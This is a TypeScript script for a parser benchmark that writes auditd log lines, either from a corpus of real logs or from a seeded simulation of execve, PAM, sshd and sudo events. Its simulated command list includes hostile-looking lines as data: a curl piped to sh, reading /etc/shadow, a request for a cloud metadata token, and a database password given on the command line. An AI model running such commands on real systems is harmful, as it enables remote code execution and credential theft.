/**
 * Plain audit log lines for the parser benchmark (`yarn bench:events`):
 * `[node=HOST ]type=TYPE msg=audit(SEC.MSEC:SERIAL): body`, as auditd
 * writes /var/log/audit/audit.log.
 *
 * From the audit corpus when it is there (every `type=… msg=audit(…)`
 * line of its raw/ *.log and *.txt files, repeated with each event's stamp
 * and serial rewritten per copy, so no two copies collapse into one event),
 * else generated with the simulator's record writers: execve events
 * (SYSCALL, EXECVE, CWD, PATH×2, PROCTITLE, EOE), PAM and sshd login
 * records, sudo's USER_CMD and some other syscalls.
 */
import {
  execveRecords,
  pamRecord,
  SimulatedAuditRecord,
  userCommandRecord,
  userLoginRecord,
} from '@cos-auditd/gke-sim';
import {
  createWriteStream,
  existsSync,
  readdirSync,
  readFileSync,
} from 'node:fs';
import { once } from 'node:events';
import { join } from 'node:path';

export const DEFAULT_CORPUS_DIR =
  process.env.COS_AUDITD_AUDIT_CORPUS ?? '/work/shared/fixtures/audit-corpus';

/** What was written. */
export type AuditLinesFile = {
  file: string;
  source: 'corpus' | 'generated';
  lines: number;
  bytes: number;
  events: number;
  /** Lines per record type, most frequent first. */
  types: Array<[string, number]>;
  /** For the corpus: lines and events in one copy, and how many copies. */
  corpus?: { files: number; lines: number; events: number; copies: number };
};

const STAMP =
  /^((?:node=\S+ )?type=(\S+) msg=audit\()(\d+)\.(\d+):(\d+)(\).*)$/;

/** The audit time of the first event written: 2026-01-05T10:00:00Z. */
const BASE_MS = Date.UTC(2026, 0, 5, 10);
const FIRST_SERIAL = 1_000_000;

/** The corpus lines, one array per file, or undefined when there is no corpus. */
export function readCorpusLines(
  corpusDir: string,
): Array<{ file: string; lines: string[] }> | undefined {
  const raw = join(corpusDir, 'raw');
  if (!existsSync(raw)) {
    return undefined;
  }
  const files: Array<{ file: string; lines: string[] }> = [];
  const walk = (dir: string) => {
    for (const entry of readdirSync(dir, { withFileTypes: true }).sort((a, b) =>
      a.name < b.name ? -1 : 1,
    )) {
      const path = join(dir, entry.name);
      if (entry.isDirectory()) {
        walk(path);
      } else if (/\.(log|txt)$/.test(entry.name)) {
        const lines = readFileSync(path, 'utf8')
          .split('\n')
          .map(line => line.replace(/\r$/, ''))
          .filter(line => STAMP.test(line));
        if (lines.length > 0) {
          files.push({ file: path, lines });
        }
      }
    }
  };
  walk(raw);
  return files.length > 0 ? files : undefined;
}

/**
 * Writes at least `minLines` lines to `file`: the corpus repeated when
 * `corpus` is given, else generated ones.
 */
export async function writeAuditLines(options: {
  file: string;
  minLines: number;
  corpus?: Array<{ file: string; lines: string[] }>;
}): Promise<AuditLinesFile> {
  const out = createWriteStream(options.file, { encoding: 'utf8' });
  let buffer: string[] = [];
  let bytes = 0;
  let lines = 0;
  const types = new Map<string, number>();
  const write = async (line: string, type: string) => {
    buffer.push(line);
    lines++;
    bytes += Buffer.byteLength(line) + 1;
    types.set(type, (types.get(type) ?? 0) + 1);
    if (buffer.length >= 4096) {
      const chunk = `${buffer.join('\n')}\n`;
      buffer = [];
      if (!out.write(chunk)) {
        await once(out, 'drain');
      }
    }
  };

  let serial = FIRST_SERIAL;
  let events = 0;
  // One event per ms: the stamps rise through the file as auditd's do.
  const nextEvent = () => {
    events++;
    return { serial: serial++, timeMs: BASE_MS + (serial - FIRST_SERIAL) };
  };
  let corpusInfo: AuditLinesFile['corpus'];

  if (options.corpus) {
    const corpusLines = options.corpus.reduce(
      (sum, f) => sum + f.lines.length,
      0,
    );
    let copies = 0;
    let eventsPerCopy = 0;
    while (lines < options.minLines) {
      const before = events;
      for (const { lines: fileLines } of options.corpus) {
        // An event is its node, stamp and serial within one file.
        const rewritten = new Map<string, { serial: number; timeMs: number }>();
        for (const line of fileLines) {
          const match = STAMP.exec(line)!;
          const [, head, type, sec, msec, oldSerial, tail] = match;
          const node = head.startsWith('node=')
            ? head.slice(0, head.indexOf(' '))
            : '';
          const key = `${node} ${sec}.${msec}:${oldSerial}`;
          let event = rewritten.get(key);
          if (!event) {
            event = nextEvent();
            rewritten.set(key, event);
          }
          await write(`${head}${stampOf(event)}${tail}`, type);
        }
      }
      copies++;
      eventsPerCopy = events - before;
    }
    corpusInfo = {
      files: options.corpus.length,
      lines: corpusLines,
      events: eventsPerCopy,
      copies,
    };
  } else {
    const random = seededRandom(20260105);
    while (lines < options.minLines) {
      for (const record of generatedEvent(random)) {
        const event = nextEvent();
        for (const one of record) {
          await write(
            `type=${one.type} msg=audit(${stampOf(event)}): ${one.body}`,
            one.type,
          );
        }
      }
    }
  }
  if (buffer.length > 0) {
    out.write(`${buffer.join('\n')}\n`);
  }
  out.end();
  await once(out, 'close');
  return {
    file: options.file,
    source: options.corpus ? 'corpus' : 'generated',
    lines,
    bytes,
    events,
    types: [...types].sort((a, b) => b[1] - a[1]),
    ...(corpusInfo ? { corpus: corpusInfo } : {}),
  };
}

function stampOf(event: { serial: number; timeMs: number }): string {
  const ms = event.timeMs % 1000;
  return `${(event.timeMs - ms) / 1000}.${String(ms).padStart(3, '0')}:${
    event.serial
  }`;
}

// ---------------------------------------------------------------------------
// Generated lines, when there is no corpus

type Line = { type: string; body: string };

const COMMANDS: Array<{ exe: string; argv: string[]; cwd: string }> = [
  { exe: '/usr/bin/id', argv: ['id'], cwd: '/home/alice' },
  { exe: '/bin/ls', argv: ['ls', '-la', '/root'], cwd: '/root' },
  { exe: '/bin/cat', argv: ['cat', '/etc/shadow'], cwd: '/root' },
  {
    exe: '/usr/bin/journalctl',
    argv: ['journalctl', '-u', 'kubelet', '--since', '10 min ago'],
    cwd: '/home/alice',
  },
  {
    exe: '/home/kubernetes/bin/crictl',
    argv: ['crictl', 'ps', '-q'],
    cwd: '/',
  },
  {
    exe: '/sbin/iptables',
    argv: ['iptables', '-w', '-t', 'nat', '-S', 'KUBE-SERVICES'],
    cwd: '/',
  },
  {
    exe: '/usr/bin/curl',
    argv: [
      'curl',
      '-s',
      '-H',
      'Metadata-Flavor: Google',
      'http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token',
    ],
    cwd: '/tmp',
  },
  {
    exe: '/bin/sh',
    argv: ['sh', '-c', 'curl -s https://example.com/run.sh | sh'],
    cwd: '/app',
  },
  {
    exe: '/usr/bin/python3',
    argv: ['python3', '-c', 'import os; print(os.uname())'],
    cwd: '/srv',
  },
  {
    exe: '/usr/bin/mysql',
    argv: ['mysql', '-u', 'root', '--password=hunter2', 'prod'],
    cwd: '/home/bob',
  },
];

const USERS = ['alice_example_com', 'bob_example_com', 'root', 'admin'];

/** The records of one or more events, each its own serial. */
function generatedEvent(random: () => number): Line[][] {
  const pick = <T>(items: readonly T[]) =>
    items[Math.floor(random() * items.length)];
  const pid = 1000 + Math.floor(random() * 60000);
  const roll = random();
  if (roll < 0.7) {
    const command = pick(COMMANDS);
    const uid = random() < 0.5 ? 0 : 1001001;
    const records = execveRecords({
      arch: random() < 0.8 ? 'amd64' : 'arm64',
      process: {
        pid,
        ppid: pid - 1 - Math.floor(random() * 100),
        uid,
        gid: uid,
        auid: random() < 0.6 ? 4294967295 : 1001001,
        ses: random() < 0.6 ? 4294967295 : 7,
        tty: random() < 0.6 ? '(none)' : 'pts0',
      },
      exe: command.exe,
      argv: command.argv,
      cwd: command.cwd,
      inodes: [
        1000 + Math.floor(random() * 1e6),
        1000 + Math.floor(random() * 1e6),
      ],
      pointers: [hex(random), hex(random), hex(random)],
    });
    return [[...records, { type: 'EOE', body: '' }]];
  }
  const sender = {
    pid,
    uid: 0,
    auid: random() < 0.5 ? 4294967295 : 1001001,
    ses: random() < 0.5 ? 4294967295 : 7,
  };
  if (roll < 0.75) {
    // Another syscall (openat), which the execve grouping passes over.
    const inode = Math.floor(random() * 1e6);
    return [
      [
        {
          type: 'SYSCALL',
          body: `arch=c000003e syscall=257 success=yes exit=3 a0=ffffff9c a1=${hex(
            random,
          )} a2=0 a3=0 items=1 ppid=1 pid=${pid} auid=4294967295 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=(none) ses=4294967295 comm="kubelet" exe="/home/kubernetes/bin/kubelet" key="etc"`,
        },
        { type: 'CWD', body: 'cwd="/"' },
        {
          type: 'PATH',
          body: `item=0 name="/etc/kubernetes/kubelet.conf" inode=${inode} dev=08:01 mode=0100644 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0`,
        },
        {
          type: 'PROCTITLE',
          body: 'proctitle=2F686F6D652F6B756265726E657465732F62696E2F6B7562656C6574',
        },
        { type: 'EOE', body: '' },
      ],
    ];
  }
  const ok = random() < 0.7;
  const login = {
    acct: ok ? pick(USERS) : pick(['(unknown)', 'oracle', 'test', 'admin']),
    exe: '/usr/sbin/sshd',
    hostname: `203.0.113.${Math.floor(random() * 250)}`,
    addr: `203.0.113.${Math.floor(random() * 250)}`,
    terminal: 'ssh',
    res: ok ? ('success' as const) : ('failed' as const),
  };
  const one = (record: SimulatedAuditRecord): Line[] => [record];
  if (!ok) {
    return [
      one(pamRecord('USER_AUTH', sender, login)),
      one(userLoginRecord(sender, login)),
    ];
  }
  if (roll < 0.85) {
    return [
      one(pamRecord('USER_AUTH', sender, login)),
      one(pamRecord('USER_ACCT', sender, login)),
      one(pamRecord('CRED_ACQ', sender, login)),
      one(userLoginRecord(sender, login, 1001001)),
      one(pamRecord('USER_START', sender, login)),
    ];
  }
  if (roll < 0.93) {
    return [
      one(pamRecord('USER_END', sender, login)),
      one(pamRecord('CRED_DISP', sender, login)),
    ];
  }
  return [
    one(
      userCommandRecord(
        { ...sender, uid: 1001001 },
        {
          cwd: '/home/alice',
          cmd: pick(['/usr/bin/id', '/bin/cat /etc/shadow', '/bin/ls -la']),
          terminal: 'pts/0',
        },
      ),
    ),
  ];
}

function hex(random: () => number): string {
  return Math.floor(random() * 0xffffffffff).toString(16);
}

/** mulberry32: the same lines on every run. */
function seededRandom(seed: number): () => number {
  let state = seed >>> 0;
  return () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let t = state;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}
